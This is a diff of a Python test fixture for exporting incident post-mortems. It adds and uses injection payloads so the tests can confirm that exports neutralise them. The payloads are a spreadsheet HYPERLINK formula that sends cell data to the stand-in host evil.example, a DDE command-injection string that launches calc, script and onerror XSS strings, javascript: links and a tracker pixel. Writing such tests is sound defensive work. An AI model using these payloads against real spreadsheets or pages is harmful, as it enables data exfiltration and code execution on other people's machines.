@@ -20,6 +20,13 @@ FORMULA_ACTION = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
 TODAY = dt.date(2024, 4, 10)
 """The day the exports are made: the short-term item (due 2024-04-05) is overdue."""
 XSS = "<script>alert(1)</script><img src=x onerror=alert(1)>"
+SECTION_XSS = (
+    '<script>alert("section")</script> <a href="javascript:alert(2)">click</a> '
+    "[md link](javascript:alert(3)) ![pixel](http://tracker.example/pixel.png)"
+)
+"""Appended to an item of What Went Wrong: none of it may become markup or load anything."""
+RUNBOOK = "https://runbooks.example/payments"
+"""A link an author wrote in What Went Wrong: it stays a link."""
 EVENTS = [
     ("2024-03-12T22:41:00+01:00", "+cmd|' /C calc'!A0 queue depth alert", Phase.DETECTION, True),
     ("2024-03-12T22:50:00+01:00", "-2+3 consumers restarted", Phase.RESPONSE, False),
@@ -32,7 +39,11 @@ EVENTS = [
 def export_text() -> str:
     """The Berlin post-mortem's Markdown with its first action item a formula."""
     text = BERLIN.read_text(encoding="utf-8")
-    return text.replace("Require `CONCURRENTLY` for every index migration", FORMULA_ACTION)
+    text = text.replace("Require `CONCURRENTLY` for every index migration", FORMULA_ACTION)
+    return text.replace(
+        "Nobody knew the migration had been deployed.",
+        f"Nobody knew the migration had been deployed ([runbook]({RUNBOOK})). {SECTION_XSS}",
+    )
 
 
 def store_export_doc(engine: Engine, tmp_path: Path) -> str:
